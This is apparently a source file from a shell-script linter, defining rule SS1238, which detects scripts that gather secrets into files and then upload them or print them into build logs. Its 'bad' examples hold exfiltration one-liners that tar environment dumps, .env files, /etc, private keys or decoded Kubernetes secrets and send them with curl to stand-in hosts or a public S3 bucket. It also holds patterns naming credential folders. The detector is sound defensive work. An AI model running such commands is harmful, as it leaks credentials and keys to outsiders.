"""SS1238: secrets that a script gathers in files and then sends to another machine or shows."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from ...interpreter.model import Command, Hit, Place, Word
from .exposed_secrets import BUILDS, key_file
from .invocation import Invocation
from .paths import secret, spelled
from .rule import dangerous, script_rule
from .secrets import sensitive
from .word_lists import set_of
from .write_targets import targets

_PRINTING = set_of("env printenv set export declare cat cp grep sed")
_WHOLE_LINES = set_of("env printenv sort tee grep")
_COPYING = set_of("cp install rsync mv ln")
_PACKING = set_of("tar zip 7z gzip bzip2 xz zstd base64 cpio split")
_ENCRYPTING = set_of("gpg gpg2 age rage openssl ansible-vault sops mcrypt ccrypt")
_SENDING = set_of("curl wget http https xh")
# Copies into a bucket that everybody may read.
_OPENED = re.compile(r"\b(?:s3 (?:cp|mv)|s3api put-object)\b.*public-read|\bgsutil\b.*\bcp\b.*-a public-read")
# Folders of settings that hold keys and passwords among them.
_HOLDING = re.compile(
    r"/etc(?:/(?:ssl(?:/private)?|pki(?:/tls)?|ssh|mysql|kubernetes(?:/pki)?|letsencrypt|openvpn|wireguard|ipsec\.d|"
    r"vault(?:\.d)?|consul\.d|haproxy|nginx/(?:ssl|tls)|sssd|samba|ldap))?(?:/\*)?\Z|/root(?:/\.(?:ssh|aws|kube|gnupg))?\Z|"
    r"~(?:/\.(?:ssh|aws|kube|gnupg|docker))?\Z|/home/[^/]+/\.(?:ssh|aws|kube|gnupg)\Z"
)
# Programs that write or print what lets somebody in.
_GRANTING = (
    ("az", re.compile(r"\baks get-credentials\b")),
    ("aws", re.compile(r"\beks update-kubeconfig\b|\bget-secret-value\b|--with-decryption\b|\bcreate-access-key\b")),
    ("gcloud", re.compile(r"\biam service-accounts keys create\b")),
    ("kubectl", re.compile(r"\bconfig view\b.*--raw\b")),
    ("oc", re.compile(r"\bconfig view\b.*--raw\b")),
    ("vault", re.compile(r"\b(?:kv get|read|token create)\b")),
)
_INTO = frozenset(("-f", "--file", "--kubeconfig", "--output-file"))
_DECODING = re.compile(r"@base64d|\bbase64\s+(?:-d|--decode)\b")


@script_rule(
    "SS1238",
    "Gathers secrets in a file, and sends or shows it",
    why="What has left the machine in the clear, or stands in a build log or a chat, is known to everybody who reads "
    "there, and to the one who stores it.",
    instead="leave keys and passwords out (tar --exclude), encrypt for the one who is meant (age -r, gpg -e -r), or "
    "say only that the file is there",
    on="curl wget http https xh cat aws gsutil",
    yields="SS1951",
    bad=(
        "env > /tmp/s/env.txt; tar czf /tmp/s.tgz /tmp/s; curl -T /tmp/s.tgz https://drop.example/s.tgz",
        "env | sort > $OUT/env.txt; tar -C $OUT -czf $OUT/d.tgz env.txt; curl --upload-file $OUT/d.tgz https://x.example/",
        "mkdir /tmp/s; cp /srv/shop/.env /tmp/s/; tar -C /tmp -czf /tmp/s.tgz s; curl --upload-file /tmp/s.tgz "
        "https://x.example/",
        "D=$(mktemp -d); cp -a /etc $D/etc; tar czf /tmp/c.tgz -C $D .; curl -T /tmp/c.tgz https://drop.example/c.tgz",
        "tar czhf /tmp/c.tgz -C $LIVE fullchain.pem privkey.pem; aws s3 cp /tmp/c.tgz s3://pub/c.tgz --acl public-read",
        "tar czf /tmp/ssl.tgz /etc/ssl; curl -F file=@/tmp/ssl.tgz https://support.example/upload",
        "for s in $(kubectl get secret -o name); do kubectl get $s -o json | jq '.data | map_values(@base64d)'; done "
        "> o.txt; curl -F file=@o.txt https://chat.example/upload",
        'KC=$BUILD_DIR/kc; az aks get-credentials -n c -g r --file "$KC"; echo "run $BUILD_ID"; cat "$KC"',
    ),
    good=(
        "env > /tmp/s/env.txt; tar czf /tmp/s.tgz /tmp/s",
        "uname -a > /tmp/s/uname; tar czf /tmp/s.tgz /tmp/s; curl -T /tmp/s.tgz https://drop.example/s.tgz",
        "tar czf /tmp/n.tgz /etc/nginx/conf.d; curl -F file=@/tmp/n.tgz https://support.example/upload",
        "tar cz /etc/ssl | age -r age1x > /tmp/ssl.age; curl -T /tmp/ssl.age https://drop.example/ssl.age",
        'az aks get-credentials -n c -g r --file "$KC"; kubectl --kubeconfig "$KC" get nodes',
    ),
)
def gathered(calls: Sequence[Invocation]) -> Iterator[Hit]:
    held: dict[str, str] = {}  # files and folders by how they are written, and what is in them
    building = any(_builds(call.command) for call in calls)
    group: tuple[Place, list[str]] | None = None
    fed = {id(up) for call in calls for up in call.command.upstream}
    for call in calls:
        command = call.command
        if found := _sent(call, held):
            yield dangerous(f"sends {found} to another machine, in a file", command.place)
        shows = call.name == "cat" and building and not command.captured and not targets(call)
        if shows and id(command) not in fed and (words := _granted(call, held)):
            yield dangerous(f"prints {words} into the log of a build", command.place)
        if call.name == ":" and command.redirects:
            group = command.place, [_plain(target.word.written) for target in targets(call)]
        inside = group is not None and _covers(group[0], command.place)
        _learn(call, held, group[1] if group is not None and inside else ())


def _covers(outer: Place, inner: Place) -> bool:
    first, last = (outer.line, outer.column), (outer.end_line, outer.end_column)
    return first <= (inner.line, inner.column) and (inner.end_line, inner.end_column) <= last


def _builds(command: Command) -> bool:
    """Whether a command stands in a build: it speaks to the machine that builds, or uses a variable of it."""
    return bool(BUILDS.search(command.source)) or any(
        BUILDS.search(part.source) for word in command.arguments for part in word.unknowns
    )


def _learn(call: Invocation, held: dict[str, str], into: Sequence[str]) -> None:
    """Note the files that a command fills with secrets, or copies and packs from such files; `into` are those that the
    output of a whole group of commands goes to."""
    command = call.command
    if call.name in _ENCRYPTING:
        return
    words = _source(call, held, grouped=bool(into))
    if not words:
        return
    for name in into:
        held[name] = words
    for target in targets(call):
        if target.how != "edits" and not target.path.startswith("/dev/"):
            held[_plain(target.word.written)] = words
    if call.name in _COPYING and call.operands:
        held[_plain(call.operands[-1].written)] = words
    arguments = command.arguments
    for at, text in enumerate(call.texts[:-1]):
        if text in _INTO or (call.name == "tar" and at == 0 and text.endswith("f")):
            held[_plain(arguments[at + 1].written)] = words
    for word in call.all("-f", "--file") if call.name == "tar" else ():
        held[_plain(word.written)] = words


def _source(call: Invocation, held: dict[str, str], *, grouped: bool) -> str:
    """What of worth ends up in the files that a command writes, in words."""
    command = call.command
    for program, pattern in _GRANTING:
        if call.name == program and pattern.search(call.text):
            return "credentials"
    ups = command.upstream
    if any(up.name in _ENCRYPTING for up in ups):
        return ""
    if any(up.name in ("kubectl", "oc") for up in ups) and _DECODING.search(f"{call.name} {call.text}"):
        return "the decoded secrets of a cluster"
    if call.name in _COPYING | _PACKING or call.name == "cat":
        below = call.all("-C", "--directory") if call.name == "tar" else ()
        for each in call.operands if call.name not in _COPYING else call.operands[:-1]:
            word = below[-1] if below and each.text == "." else each
            path = spelled(word, command.cwd)
            if key_file(path) or secret(path) or _HOLDING.match(path):
                return f"what {path} holds"
            if inside := _within(word, command, held):
                return inside
    if call.name in _PRINTING and call.name not in ("cat", "cp") and (grouped or targets(call)):
        return sensitive(command)
    for up in ups:
        whole = up.name in ("env", "printenv") and _WHOLE_LINES.issuperset(each.name for each in ups)
        if whole and call.name in _WHOLE_LINES and (grouped or targets(call)):
            return sensitive(up)
        if up.name in _PACKING | {"cat"}:
            for word in up.arguments:
                path = spelled(word, up.cwd)
                if key_file(path) or secret(path) or _HOLDING.match(path):
                    return f"what {path} holds"
                if inside := _within(word, up, held):
                    return inside
    return ""


def _plain(text: str) -> str:
    return text.rstrip("/").removesuffix("/*").removesuffix("/.")


def _within(word: Word, command: Command, held: dict[str, str]) -> str:
    """What the file or folder that a word names holds; names below the folder of `-C` count by their last part."""
    name = _plain(word.written)
    for path, words in held.items():
        if path == name or path.startswith(f"{name}/") or name.startswith(f"{path}/"):
            return words
        if "/" not in name and name not in (".", "") and name[:1] != "-" and f"/{name}/" in f"{path}/":
            return words
    return ""


def _sent(call: Invocation, held: dict[str, str]) -> str:
    """What a command sends to another machine of that which was gathered, in words."""
    if held and _OPENED.search(call.text):
        named = {_plain(word.written) for word in call.operands}
        return next((words for path, words in held.items() if path in named), "")
    if not held or call.name not in _SENDING or not re.search(r"https?://(?!localhost|127\.)", call.text):
        return ""
    bodies = [word.written for word in call.command.arguments if "@" in word.shape]
    bodies += [word.written for word in call.all("-T", "--upload-file", "--post-file", "--body-file")]
    sent = {body.rpartition("@")[2].partition(";")[0] for body in bodies}
    return next((words for path, words in held.items() if path in sent), "")


def _granted(call: Invocation, held: dict[str, str]) -> str:
    """What lets somebody in of the files that `cat` prints, in words."""
    for word in call.operands:
        if (words := held.get(_plain(word.written), "")) == "credentials":
            return words
        path = spelled(word, call.command.cwd)
        if key_file(path) and not path.endswith((".env", ".my.cnf")):
            return f"what {path} holds"
    return ""
